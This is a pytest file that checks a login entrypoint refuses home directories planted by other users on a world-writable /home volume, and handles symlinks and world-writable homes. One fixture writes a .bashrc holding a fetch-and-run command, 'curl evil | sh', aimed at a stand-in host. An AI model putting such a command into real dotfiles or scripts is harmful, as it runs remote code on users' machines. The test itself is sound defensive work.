"""The login entrypoint's home step (``make_homes`` in images/entrypoint/lib.sh), run with bash as root
(it chowns to the users' uids) in a mount namespace of its own where a temporary directory is bind
mounted on /home, as the volume is in the login pod; the machine's own /home is never touched.

Issue 40 item 12: /home is a volume whose root may be world-writable (NFS-subdir, EFS, local-path):
before users log in, any of them (or a job on a worker) could plant another user's home, and the
entrypoint kept every existing home as found, so the victim's login shell read the planter's
dotfiles. Now /home becomes root:root 0755, and an existing home that is not the user's own is
refused (locked root:root 0700, contents kept, a clear error): that user has no usable home until
an operator sorts it out; the login pod starts for everyone else."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

LIB = Path(__file__).resolve().parents[1] / "images" / "entrypoint" / "lib.sh"
LOGIN_SH = LIB.parent / "login.sh"

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="make_homes chowns homes to the users' uids and the test "
                                                          "mounts a /home of its own: needs root")

USERS = {"alice": 2001, "bob": 2002, "carol": 2003, "dave": 2004, "erin": 2005, "frank": 2006, "gina": 2007}


def _run(tmp_path: Path) -> subprocess.CompletedProcess:
    users = tmp_path / "users"
    users.mkdir()
    (users / "passwd").write_text("".join(f"{n}:x:{u}:{u}:{n}:/home/{n}:/bin/bash\n" for n, u in USERS.items()))
    script = (f"mount --bind {tmp_path / 'home'} /home || exit 99; . {LIB}; SLURMK8S_ROLE=login; make_homes; "
              "echo done")
    return subprocess.run(["unshare", "--mount", "--propagation", "private", "bash", "-c", script],
                          capture_output=True, text=True, timeout=30,
                          env={**os.environ, "SLURMK8S_USERS_DIR": str(users)})


def _owner_mode(p: Path) -> tuple[int, int, str]:
    st = p.lstat()
    return st.st_uid, st.st_gid, oct(st.st_mode & 0o7777)


def test_a_home_planted_on_a_world_writable_home_is_refused_not_handed_over(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    os.chown(home, 65534, 65534)
    home.chmod(0o777)  # a provisioner's volume root: anyone may create /home/<name>
    # alice (2001) plants bob's home, with a .bashrc that would run as bob at his first login
    bob = home / "bob"
    bob.mkdir()
    (bob / ".bashrc").write_text("curl evil | sh\n")
    for p in (bob, bob / ".bashrc"):
        os.chown(p, 2001, 2001)
    bob.chmod(0o755)
    # carol's own home, as she left it
    carol = home / "carol"
    carol.mkdir(mode=0o750)
    (carol / "data").write_text("mine\n")
    os.chown(carol, 2003, 2003)
    os.chown(carol / "data", 2003, 2003)
    carol.chmod(0o750)
    # dave's "home" is a link alice made to carol's
    (home / "dave").symlink_to(carol)
    os.chown(home / "dave", 2001, 2001, follow_symlinks=False)
    # erin's half made by an earlier start (root's mkdir, then the pod died): ours to finish
    (home / "erin").mkdir(mode=0o755)
    # frank's root-owned but world-writable: anyone may have put files in it
    (home / "frank").mkdir()
    (home / "frank").chmod(0o777)
    # gina's home is a file of alice's
    (home / "gina").write_text("x\n")
    os.chown(home / "gina", 2001, 2001)

    r = _run(tmp_path)
    assert r.returncode == 0 and r.stdout == "done\n", r.stderr  # the login pod starts for the others
    assert _owner_mode(home) == (0, 0, "0o755"), r.stderr
    # created and finished homes are the user's, 0700
    assert _owner_mode(home / "alice") == (2001, 2001, "0o700")
    assert _owner_mode(home / "erin") == (2005, 2005, "0o700")
    # the planted home went to nobody: locked to root, content kept for the operator
    assert _owner_mode(bob) == (0, 0, "0o700") and _owner_mode(bob / ".bashrc")[0] == 2001
    assert (bob / ".bashrc").read_text() == "curl evil | sh\n"
    assert ("users: REFUSED home /home/bob of bob (uid 2002): it is owned by uid 2001, not bob; locked it "
            "(root:root 0700, contents kept) and bob has no usable home until it is fixed") in r.stderr, r.stderr
    assert _owner_mode(home / "frank") == (0, 0, "0o700")
    assert "REFUSED home /home/frank of frank (uid 2006): it is owned by root but writable by others" in r.stderr
    assert _owner_mode(home / "gina") == (0, 0, "0o700")
    assert "REFUSED home /home/gina of gina (uid 2007): it is not a directory" in r.stderr
    # a link is no data: removed, and dave gets a home of his own
    assert not (home / "dave").is_symlink() and _owner_mode(home / "dave") == (2004, 2004, "0o700")
    assert "removed the symbolic link /home/dave" in r.stderr
    # the user's own home is kept as found
    assert _owner_mode(carol) == (2003, 2003, "0o750") and (carol / "data").read_text() == "mine\n"
    assert ("users: /home (a mounted volume) was uid 65534 gid 65534 mode 0777: now root:root 0755, so that "
            "no user can create or rename homes") in r.stderr, r.stderr


def test_a_root_owned_home_root_stays_and_every_missing_home_is_made(tmp_path):
    home = tmp_path / "home"
    home.mkdir(mode=0o755)
    r = _run(tmp_path)
    assert r.returncode == 0 and _owner_mode(home) == (0, 0, "0o755"), r.stderr
    assert "users: /home (a mounted volume) was" not in r.stderr and "REFUSED" not in r.stderr
    assert all(_owner_mode(home / n) == (u, u, "0o700") for n, u in USERS.items())


def test_the_login_entrypoint_makes_homes_before_sshd():
    text = LOGIN_SH.read_text()
    assert "\nmake_homes\n" in text and text.index("\nmake_homes\n") < text.index("exec ")
